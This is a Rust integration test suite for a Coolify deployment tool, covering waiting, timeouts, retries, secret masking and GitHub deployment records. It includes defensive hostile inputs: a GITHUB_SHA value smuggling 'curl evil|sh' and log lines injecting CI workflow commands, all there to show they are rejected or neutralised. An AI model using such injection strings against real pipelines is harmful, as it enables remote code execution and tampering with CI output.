//! coolify-deploy as users run it, against the sandbox Coolify that behaves like the real one.

#![allow(clippy::unwrap_used, clippy::expect_used)] // a failed unwrap is a failed test

use std::time::Duration;

use sandbox::app::{App, Plan, Reply};
use sandbox::coolify::{Coolify, Forced, Script, TOKEN};
use sandbox::harness::ToolRun;
use serde_json::{Value, json};

const BIN: &str = env!("CARGO_BIN_EXE_coolify-deploy");
const WEB: &str = "webappuuid00000000000001";
const API: &str = "apiappuuid00000000000002";

fn sandbox() -> Coolify {
    let coolify = Coolify::start().unwrap();
    coolify
        .add_app(WEB, "web", "ghcr.io/acme/web", "main-1111111")
        .add_app(API, "api", "ghcr.io/acme/api", "main-1111111")
        .default_script(Script::finishes_after(Duration::from_millis(150)));
    coolify
}

fn deploy(coolify: &Coolify) -> ToolRun {
    ToolRun::new(BIN)
        .input("coolify-url", &coolify.url())
        .input("coolify-token", TOKEN)
        .input("app", WEB)
        .input("poll-interval", "50ms")
}

fn deploy_posts(coolify: &Coolify) -> Vec<Vec<(String, String)>> {
    coolify
        .requests()
        .into_iter()
        .filter(|r| r.path == "/deploy")
        .inspect(|r| assert_eq!(r.method, "POST", "deploys only with POST"))
        .map(|r| r.query)
        .collect()
}

#[test]
fn plain_deploy_waits_until_finished() {
    let coolify = sandbox();
    let run = deploy(&coolify).run();
    run.assert_exit(0);
    assert_eq!(run.output("status"), "finished");
    let uuids = run.output("deployment-uuids");
    assert_eq!(uuids.len(), 24, "{uuids}");
    assert_eq!(coolify.deployment_statuses(WEB), vec!["finished"]);
    // No `force` at all: `force=false` meant true before 4.2.0.
    assert_eq!(
        deploy_posts(&coolify),
        vec![vec![("uuid".to_owned(), WEB.to_owned())]]
    );
    for r in coolify.requests() {
        assert_eq!(r.accept.as_deref(), Some("application/json"), "{r:?}");
    }
    let report = run.report();
    assert_eq!(report["deployments"][0]["outcome"], "finished");
    assert_eq!(report["coolify_version"], "4.3.11");
    assert!(run.summary.contains("| web |"), "{}", run.summary);
    assert!(run.summary.contains("```mermaid\ngantt"), "{}", run.summary);
    assert!(
        run.stdout.contains("1 deployment finished"),
        "{}",
        run.stdout
    );
}

#[test]
fn two_apps_are_deployed_and_both_waited_for() {
    let coolify = sandbox();
    coolify.script(
        "main-1111111",
        Script::finishes_after(Duration::from_millis(300)),
    );
    let run = deploy(&coolify)
        .input("app", &format!("{WEB}\n{API}"))
        .run();
    run.assert_exit(0);
    assert_eq!(run.output("deployment-uuids").split(',').count(), 2);
    assert_eq!(coolify.deployment_statuses(WEB), vec!["finished"]);
    assert_eq!(coolify.deployment_statuses(API), vec!["finished"]);
    assert_eq!(run.report()["deployments"].as_array().unwrap().len(), 2);
}

#[test]
fn image_tag_is_set_remembered_and_forced() {
    let coolify = sandbox();
    let run = deploy(&coolify)
        .input("app", &format!("{WEB},{API}"))
        .input("image-tag", "main-2222222")
        .run();
    run.assert_exit(0);
    let previous: Value = serde_json::from_str(run.output("previous-image-tags")).unwrap();
    assert_eq!(previous, json!({WEB: "main-1111111", API: "main-1111111"}));
    for query in deploy_posts(&coolify) {
        assert!(
            query.contains(&("force".into(), "true".into())),
            "{query:?}"
        );
    }
    let patch = coolify
        .requests()
        .into_iter()
        .find(|r| r.method == "PATCH")
        .unwrap();
    assert_eq!(
        patch.body,
        Some(json!({"docker_registry_image_tag": "main-2222222"}))
    );
    assert_eq!(coolify.running_tag(WEB).as_deref(), Some("main-2222222"));
}

#[test]
fn failed_deployment_shows_the_log_tail_without_running_its_commands() {
    let coolify = sandbox();
    coolify.script(
        "broken",
        Script::fails_after(
            Duration::from_millis(100),
            &[
                "npm ERR! build failed",
                "::set-output name=status::finished",
                "::error::injected",
            ],
        ),
    );
    let run = deploy(&coolify).input("image-tag", "broken").run();
    run.assert_exit(1);
    assert_eq!(run.output("status"), "failed");
    assert!(
        run.stderr.contains("::error title=deploy-failed::"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("npm ERR! build failed"),
        "{}",
        run.stderr
    );
    // Every hostile line sits between ::stop-commands::<token> and ::<token>::.
    let lines: Vec<&str> = run.stderr.lines().collect();
    let start = lines
        .iter()
        .position(|l| l.starts_with("::stop-commands::"))
        .unwrap();
    let token = lines[start].trim_start_matches("::stop-commands::");
    let end = lines
        .iter()
        .position(|l| *l == format!("::{token}::"))
        .unwrap();
    for (i, line) in lines.iter().enumerate() {
        if line.contains("set-output") || line.contains("::error::injected") {
            assert!(i > start && i < end, "line {i} escaped: {line}");
        }
    }
    assert!(run.summary.contains("Last "), "{}", run.summary);
    // Start, the 3 script lines, the separator, "Rolling update started." and the failed
    // health check (ApplicationDeploymentJob.php L598, L1971-1973, L4045 at 379abb25).
    assert_eq!(run.report()["log_tails"][WEB].as_array().unwrap().len(), 7);
}

/// The lines of `stream` the runner would run as workflow commands (actions/runner
/// `ActionCommand.TryParseV2`/`TryParse` and the stop-commands state of
/// `ActionCommandManager.TryProcessCommand`).
fn commands_run(stream: &str) -> Vec<String> {
    let mut stopped: Option<String> = None;
    let mut run = Vec::new();
    for line in stream.split(['\r', '\n']) {
        let v2 = line.trim_start().strip_prefix("::").and_then(|rest| {
            let end = rest.find("::")?;
            Some((
                rest[..end].split(' ').next()?.to_owned(),
                rest[end + 2..].to_owned(),
            ))
        });
        let v1 = || {
            let rest = &line[line.find("##[")? + 3..];
            Some((
                rest[..rest.find(']')?].split(' ').next()?.to_owned(),
                String::new(),
            ))
        };
        let Some((name, data)) = v2.or_else(v1) else {
            continue;
        };
        match &stopped {
            Some(token) if *token == name => stopped = None,
            Some(_) => {}
            None if name == "stop-commands" => stopped = Some(data),
            None => run.push(line.to_owned()),
        }
    }
    run
}

#[test]
fn hostile_coolify_text_runs_no_command_in_any_format() {
    for format in ["github", "human", "json"] {
        let coolify = Coolify::start().unwrap();
        coolify
            .add_app(
                WEB,
                "web\n::error::pwned-name ##[warning]pwned-v1",
                "ghcr.io/acme/web",
                "main-1",
            )
            .script(
                "broken",
                Script::fails_after(
                    Duration::from_millis(50),
                    &[
                        "ok",
                        "::error::pwned-log",
                        "\r::add-mask::pwned-cr",
                        "##[error]pwned-log-v1",
                    ],
                ),
            );
        let run = deploy(&coolify)
            .input("image-tag", "broken")
            .input("format", format)
            .run();
        run.assert_exit(1);
        for (stream, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
            // Our own commands may carry the text as data; any other command was injected.
            let ours = [
                "::add-mask::",
                "::group::",
                "::endgroup::",
                "::error title=",
                "::warning title=",
                "::notice title=",
            ];
            let injected: Vec<String> = commands_run(text)
                .into_iter()
                .filter(|l| !ours.iter().any(|p| l.starts_with(p)))
                .collect();
            assert_eq!(injected, Vec::<String>::new(), "{format} {stream}:\n{text}");
        }
        assert!(
            run.everything().contains("pwned-log"),
            "{format}: the log is shown"
        );
        // In Actions the runner is told to mask, whatever the format.
        assert!(
            run.stderr.contains(&format!("::add-mask::{TOKEN}")),
            "{format}: {}",
            run.stderr
        );
        if format == "json" {
            let report: Value = serde_json::from_str(run.stdout.trim()).unwrap();
            assert!(
                report["deployments"][0]["app_name"]
                    .as_str()
                    .unwrap()
                    .contains("\n::error::")
            );
        }
    }
}

#[test]
fn deployment_that_never_ends_is_cancelled_at_the_timeout() {
    let coolify = sandbox();
    coolify.script("stuck", Script::never_ends());
    let run = deploy(&coolify)
        .input("image-tag", "stuck")
        .input("timeout", "600ms")
        .run();
    run.assert_exit(1);
    assert_eq!(run.output("status"), "timeout");
    assert_eq!(coolify.deployment_statuses(WEB), vec!["cancelled-by-user"]);
    assert!(
        run.stderr.contains("title=deploy-timeout"),
        "{}",
        run.stderr
    );
    assert!(
        run.report()["deployments"][0]["note"]
            .as_str()
            .unwrap()
            .contains("cancelled at the timeout")
    );
}

#[test]
fn timeout_without_cancel_leaves_it_running() {
    let coolify = sandbox();
    coolify.script("stuck", Script::never_ends());
    let run = deploy(&coolify)
        .input("image-tag", "stuck")
        .input("timeout", "300ms")
        .input("cancel-on-timeout", "false")
        .run();
    run.assert_exit(1);
    assert_eq!(coolify.deployment_statuses(WEB), vec!["in_progress"]);
}

#[test]
fn queue_full_429_is_waited_out() {
    let coolify = sandbox();
    coolify.force(
        Forced::new(
            "/api/v1/deploy",
            429,
            json!({"message": "Deployment queue is full. Please wait for existing deployments to complete."}),
        )
        .retry_after(60)
        .exactly(),
    );
    let run = deploy(&coolify).run();
    run.assert_exit(0);
    assert_eq!(deploy_posts(&coolify).len(), 2);
    assert_eq!(coolify.deployment_statuses(WEB), vec!["finished"]);
}

#[test]
fn the_dedupe_answer_follows_the_real_deployment() {
    let coolify = sandbox();
    // Long enough that the real deployment still runs when the tool's request arrives on a
    // loaded machine (it polls until the build ends either way).
    coolify.default_script(Script::finishes_after(Duration::from_secs(2)));
    let real = coolify.start_deployment(WEB).unwrap();
    let run = deploy(&coolify).run();
    run.assert_exit(0);
    // The UUID Coolify answered was never stored; the tool followed the running one.
    assert_eq!(run.output("deployment-uuids"), real);
    assert_eq!(coolify.deployment_statuses(WEB), vec!["finished"]);
    assert!(run.stderr.contains("already queued"), "{}", run.stderr);
}

#[test]
fn deploy_by_coolify_tag() {
    let coolify = sandbox();
    coolify
        .tag_app(WEB, "production")
        .tag_app(API, "production");
    let run = deploy(&coolify)
        .input("app", "")
        .input("tag", "production")
        .run();
    run.assert_exit(0);
    assert_eq!(run.output("deployment-uuids").split(',').count(), 2);
    assert_eq!(
        deploy_posts(&coolify),
        vec![vec![("tag".to_owned(), "production".to_owned())]]
    );
}

#[test]
fn wait_false_returns_once_queued() {
    let coolify = sandbox();
    coolify.default_script(Script::never_ends());
    let run = deploy(&coolify).input("wait", "false").run();
    run.assert_exit(0);
    assert_eq!(run.output("status"), "queued");
    assert_eq!(coolify.deployment_statuses(WEB), vec!["in_progress"]);
}

#[test]
fn auth_and_server_errors_exit_3_naming_the_cause() {
    let coolify = sandbox();
    coolify.add_token("9|deploy-only", &["deploy"], false);
    let cases = [
        (
            deploy(&coolify).input("coolify-token", "9|wrong"),
            "invalid, expired or revoked",
        ),
        (
            deploy(&coolify).input("coolify-token", "9|deploy-only"),
            "Missing required permissions: read",
        ),
        (
            // The app is read first (its build pack decides image tag or commit).
            deploy(&coolify).input("app", "nosuchapp"),
            "Application not found",
        ),
    ];
    for (run, cause) in cases {
        let run = run.run();
        run.assert_exit(3);
        assert!(run.stderr.contains(cause), "{cause}: {}", run.stderr);
        run.assert_one_error_line();
    }
    coolify.disable_api();
    let run = deploy(&coolify).run();
    run.assert_exit(3);
    assert!(
        run.stderr.contains("enable the API in Coolify"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_server_that_is_down_exits_3() {
    let port = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    let run = ToolRun::new(BIN)
        .input("coolify-url", &format!("http://127.0.0.1:{port}"))
        .input("coolify-token", TOKEN)
        .input("app", WEB)
        .run();
    run.assert_exit(3);
    assert!(run.stderr.contains("connect"), "{}", run.stderr);
}

#[test]
fn a_wrong_url_says_so() {
    let app = App::start().unwrap();
    app.fallback(Plan::Sequence(vec![
        Reply::status(404).body("<html>nginx</html>"),
    ]));
    let run = ToolRun::new(BIN)
        .input("coolify-url", &app.server.base_url())
        .input("coolify-token", TOKEN)
        .input("app", WEB)
        .run();
    run.assert_exit(3);
    assert!(run.stderr.contains("coolify-url"), "{}", run.stderr);
}

#[test]
fn the_token_is_never_printed() {
    const SENTINEL: &str = "7|SENTINEL-coolify-secret-42";
    let coolify = sandbox();
    coolify.add_token(SENTINEL, &["root"], false);
    coolify.script("broken", Script::fails_after(Duration::ZERO, &[SENTINEL]));
    let run = deploy(&coolify)
        .input("coolify-token", SENTINEL)
        .input("image-tag", "broken")
        .run();
    run.assert_exit(1);
    let everything = run.everything();
    let masked: Vec<&str> = everything
        .lines()
        .filter(|l| l.contains("SENTINEL"))
        .collect();
    assert_eq!(
        masked,
        vec![format!("::add-mask::{SENTINEL}")],
        "{everything}"
    );
}

#[test]
fn a_password_in_the_coolify_url_stays_out_of_links_and_logs() {
    const PASSWORD: &str = "SENTINEL-url-password-61c0";
    let coolify = sandbox();
    let url = coolify
        .url()
        .replacen("://", &format!("://u:{PASSWORD}@"), 1);
    let run = deploy(&coolify).input("coolify-url", &url).run();
    run.assert_exit(0);
    let link = run.report()["deployments"][0]["link"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(link.contains("/deployment/"), "a link is shown: {link:?}");
    assert!(!link.contains('@'), "{link}");
    assert!(run.summary.contains("/deployment/"), "{}", run.summary);
    let everything = run.everything();
    let leaks: Vec<&str> = everything
        .lines()
        .filter(|l| l.contains(PASSWORD) && !l.starts_with("::add-mask::"))
        .collect();
    assert_eq!(leaks, Vec::<&str>::new(), "{everything}");
    assert!(
        run.stderr.contains(&format!("::add-mask::{PASSWORD}")),
        "{}",
        run.stderr
    );
}

#[test]
fn bad_inputs_exit_2_with_one_line() {
    let coolify = sandbox();
    let cases = [
        (deploy(&coolify).input("app", ""), "missing input `app`"),
        (
            deploy(&coolify).input("tag", "prod"),
            "both `app` and `tag`",
        ),
        (
            deploy(&coolify).input("coolify-url", "coolify.example.com"),
            "coolify-url",
        ),
        (
            deploy(&coolify).input("coolify-url", "ftp://x"),
            "http:// or https://",
        ),
        (
            deploy(&coolify).input("coolify-url", ""),
            "missing input `coolify-url`",
        ),
        (
            deploy(&coolify).input("coolify-token", ""),
            "missing input `coolify-token`",
        ),
        (deploy(&coolify).input("timeout", "soon"), "timeout"),
        (
            deploy(&coolify).input("poll-interval", "0s"),
            "poll-interval",
        ),
        (deploy(&coolify).input("image-tag", "a/b:c"), "image-tag"),
        (deploy(&coolify).input("wait", "yes"), "wait"),
        (
            deploy(&coolify).input("ca-cert", "/nonexistent.pem"),
            "ca-cert",
        ),
        (
            deploy(&coolify).input("webhook-url", "https://hooks.example.com/x"),
            "not both",
        ),
    ];
    for (run, needle) in cases {
        let run = run.run();
        run.assert_exit(2);
        assert!(run.stderr.contains(needle), "{needle}: {}", run.stderr);
        run.assert_one_error_line();
    }
    assert!(coolify.requests().is_empty(), "bad input must send nothing");
}

#[test]
fn webhook_mode_posts_image_tag_and_force() {
    let hook = App::start().unwrap();
    hook.fallback(Plan::Sequence(vec![
        Reply::status(503),
        Reply::json(200, json!({"ok": true})),
    ]));
    let run = ToolRun::new(BIN)
        .input("webhook-url", &hook.url("/hooks/deploy"))
        .input("image", "ghcr.io/acme/web")
        .input("image-tag", "main-abc1234")
        .input("force", "true")
        .run();
    run.assert_exit(0);
    let seen = hook.seen();
    assert_eq!(seen.len(), 2, "503 is retried");
    let body: Value = serde_json::from_str(&seen[1].body).unwrap();
    assert_eq!(
        body,
        json!({"image": "ghcr.io/acme/web", "tag": "main-abc1234", "force": true})
    );
    assert_eq!(run.output("status"), "queued");
}

fn recorded(coolify: &Coolify, github: &sandbox::github::GitHub) -> ToolRun {
    deploy(coolify)
        .input("github-deployment", "true")
        .input("environment", "staging")
        .input("environment-url", "https://staging.acme.test")
        .input("github-token", sandbox::github::TOKEN)
        .env("GITHUB_API_URL", &github.api_url())
        .env("GITHUB_REPOSITORY", sandbox::github::REPOSITORY)
        .env("GITHUB_SHA", "0123456789abcdef0123456789abcdef01234567")
        .env("GITHUB_SERVER_URL", "https://github.com")
        .env("GITHUB_RUN_ID", "42")
}

#[test]
fn github_deployment_records_in_progress_then_success() {
    let coolify = sandbox();
    let github = sandbox::github::GitHub::start().unwrap();
    let run = recorded(&coolify, &github)
        .input("image-tag", "main-2222222")
        .run();
    run.assert_exit(0);
    let deployments = github.deployments();
    assert_eq!(deployments.len(), 1);
    let (sha, environment, payload, states) = &deployments[0];
    assert_eq!(sha, "0123456789abcdef0123456789abcdef01234567");
    assert_eq!(environment, "staging");
    assert_eq!(payload["image_tag"], "main-2222222");
    assert_eq!(
        states,
        &vec!["in_progress".to_owned(), "success".to_owned()]
    );
    let success = github
        .calls()
        .into_iter()
        .rfind(|c| c.path.ends_with("/statuses"))
        .unwrap();
    assert_eq!(
        success.body["environment_url"],
        "https://staging.acme.test/"
    );
    assert_eq!(
        success.body["log_url"],
        "https://github.com/acme/shop/actions/runs/42"
    );
    assert!(run.report()["github_deployment_id"].is_u64());
}

#[test]
fn a_502_on_the_record_creating_post_is_not_retried() {
    let coolify = sandbox();
    let github = sandbox::github::GitHub::start().unwrap();
    github.fail("POST", "/deployments", 502, 1);
    let run = recorded(&coolify, &github)
        .input("image-tag", "main-2222222")
        .run();
    run.assert_exit(0);
    let posts = github
        .calls()
        .iter()
        .filter(|c| c.method == "POST" && c.path.ends_with("/deployments"))
        .count();
    assert_eq!(posts, 1, "a retry could record the deployment twice");
    assert!(
        run.stderr.contains("title=github-deployment-failed"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_github_sha_that_is_not_a_commit_is_bad_input() {
    let coolify = sandbox();
    let github = sandbox::github::GitHub::start().unwrap();
    let run = recorded(&coolify, &github)
        .env("GITHUB_SHA", "x;curl evil|sh #")
        .run();
    run.assert_exit(2);
    run.assert_one_error_line();
    assert!(run.stderr.contains("GITHUB_SHA"), "{}", run.stderr);
    assert!(github.calls().is_empty());
}

#[test]
fn github_deployment_records_failure_and_github_trouble_is_only_a_warning() {
    let coolify = sandbox();
    coolify.script("broken", Script::fails_after(Duration::ZERO, &["boom"]));
    let github = sandbox::github::GitHub::start().unwrap();
    let run = recorded(&coolify, &github)
        .input("image-tag", "broken")
        .run();
    run.assert_exit(1);
    assert_eq!(github.deployments()[0].3, vec!["in_progress", "failure"]);

    let run = recorded(&coolify, &github)
        .input("github-token", "ghs_wrong")
        .input("image-tag", "main-3333333")
        .run();
    run.assert_exit(0);
    assert!(
        run.stderr
            .contains("::warning title=github-deployment-failed::"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("Bad credentials"), "{}", run.stderr);
}

#[test]
fn github_deployment_needs_a_token() {
    let coolify = sandbox();
    let run = deploy(&coolify)
        .input("github-deployment", "true")
        .env("GITHUB_REPOSITORY", "acme/shop")
        .env("GITHUB_SHA", "abc")
        .run();
    run.assert_exit(2);
    assert!(run.stderr.contains("github-token"), "{}", run.stderr);
}

#[test]
fn a_queue_that_stays_full_exits_3_with_the_wait() {
    let coolify = sandbox();
    coolify.queue_limit(0);
    let run = deploy(&coolify).run();
    run.assert_exit(3);
    assert!(
        run.stderr.contains("Deployment queue is full"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("it asked to wait 1m"), "{}", run.stderr);
    assert!(
        deploy_posts(&coolify).len() > 1,
        "429 is retried before giving up"
    );
    run.assert_one_error_line();
}

#[test]
fn an_outage_is_retried_then_exits_3() {
    let coolify = sandbox();
    coolify.outage(true);
    let run = deploy(&coolify).run();
    run.assert_exit(3);
    assert!(run.stderr.contains("HTTP 502"), "{}", run.stderr);
    let tries = coolify
        .requests()
        .iter()
        .filter(|r| r.path == "/version")
        .count();
    assert_eq!(tries, 5, "502 is retried up to the attempt limit");
}

#[test]
fn an_old_coolify_is_named_in_a_warning() {
    let coolify = sandbox();
    coolify.set_version("4.0.0-beta.420");
    let run = deploy(&coolify).run();
    run.assert_exit(0);
    assert!(
        run.stderr.contains(
            "::warning title=coolify-too-old::Coolify 4.0.0-beta.420 is older than 4.0.0-beta.436"
        ),
        "{}",
        run.stderr
    );
}

#[test]
fn wait_switches_on_the_command_line_and_inputs_agree() {
    let coolify = sandbox();
    coolify.default_script(Script::never_ends());
    let run = deploy(&coolify).arg("--no-wait").run();
    run.assert_exit(0);
    assert_eq!(run.output("status"), "queued");
    // The last of --wait / --no-wait wins; `--wait=false` is the input's false.
    let run = deploy(&coolify).arg("--wait").arg("--no-wait").run();
    run.assert_exit(0);
    let run = deploy(&coolify).arg("--wait=false").run();
    run.assert_exit(0);
    assert_eq!(run.output("status"), "queued");
    let run = deploy(&coolify)
        .input("wait", "false")
        .arg("--wait=yes")
        .run();
    run.assert_exit(2);
    assert!(
        run.stderr.contains("invalid input `wait`"),
        "{}",
        run.stderr
    );
    let run = deploy(&coolify)
        .input("wait", "false")
        .arg("--no-wait")
        .arg("--wait")
        .arg("--timeout")
        .arg("300ms")
        .arg("--no-cancel-on-timeout")
        .run();
    run.assert_exit(1);
}

#[test]
fn a_missing_token_says_how_to_give_it_where_the_tool_runs() {
    let coolify = sandbox();
    let laptop = deploy(&coolify)
        .input("coolify-token", "")
        .without_env("GITHUB_ACTIONS")
        .run();
    laptop.assert_exit(2);
    laptop.assert_one_error_line();
    assert!(
        laptop.stderr.contains("COOLIFY_TOKEN=…"),
        "{}",
        laptop.stderr
    );
    assert!(
        laptop.stderr.contains("--coolify-token-file PATH"),
        "{}",
        laptop.stderr
    );
    assert!(!laptop.stderr.contains("${{"), "{}", laptop.stderr);
    let step = deploy(&coolify).input("coolify-token", "").run();
    step.assert_exit(2);
    assert!(
        step.stderr
            .contains("`coolify-token: ${{ secrets.COOLIFY_TOKEN }}`"),
        "{}",
        step.stderr
    );
    // The --github-deployment switch turns the record on: without a token, that is named.
    let laptop = deploy(&coolify)
        .without_env("GITHUB_ACTIONS")
        .arg("--github-deployment")
        .run();
    laptop.assert_exit(2);
    assert!(
        laptop.stderr.contains("GITHUB_TOKEN=…"),
        "{}",
        laptop.stderr
    );
    assert!(
        laptop.stderr.contains("--github-token-file"),
        "{}",
        laptop.stderr
    );
}

#[test]
fn completions_and_man_page() {
    sandbox::cli_checks::assert_completions_and_man(
        BIN,
        "coolify-deploy",
        &[
            "--coolify-url",
            "--no-wait",
            "--force",
            "--github-deployment",
        ],
    );
}
